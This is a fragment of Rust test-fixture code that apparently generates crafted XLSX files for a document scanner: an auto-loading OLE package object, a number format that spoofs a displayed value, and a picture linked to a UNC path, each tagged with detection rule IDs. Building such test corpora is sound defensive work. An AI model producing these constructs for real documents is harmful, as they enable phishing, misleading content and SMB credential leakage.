                &format!("<oleObjects><mc:AlternateContent><mc:Choice Requires=\"x14\"><oleObject progId=\"Package {0}\" shapeId=\"1025\" r:id=\"rIdO\" autoLoad=\"1\"><objectPr defaultSize=\"0\" autoPict=\"0\" r:id=\"rIdP\" macro=\"{0}\"><anchor><from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></from><to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></to></anchor></objectPr></oleObject></mc:Choice><mc:Fallback><oleObject progId=\"Package {0}\" shapeId=\"1025\" r:id=\"rIdO\"/></mc:Fallback></mc:AlternateContent></oleObjects>", m.kill),
            )
            .zip()
    })
    .also(&["ooxml.ole-embedded-object", "ooxml.ole-package-file"]);
    index.stays("xlsx.number-format-spoof", "xlsx", |m| {
        xlsx(m)
            .fill("xl/styles.xml", "formats", &format!("<numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"&quot;{}-1,000,000&quot;\"/></numFmts>", m.kill))
            .fill("xl/styles.xml", "xfs", "<xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>")
            .fill(SHEET, "rows", "<row r=\"2\"><c r=\"A2\" s=\"1\"><v>1</v></c></row>")
            .zip()
    });
    index.absent("xlsx.chartsheet-and-drawing-rels", "xlsx", |m| {
        drawing(
            m,
            "<xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"2\" name=\"p\"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link=\"rIdL\"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>",
        )
        .external("xl/drawings/drawing1.xml", "rIdL", "image", &m.unc("p.png"))
        .zip()
    })
    .also(&["ooxml.linked-picture", "opc.rel-unc-smb-webdav", "opc.rel-external-catch-all"]);
}
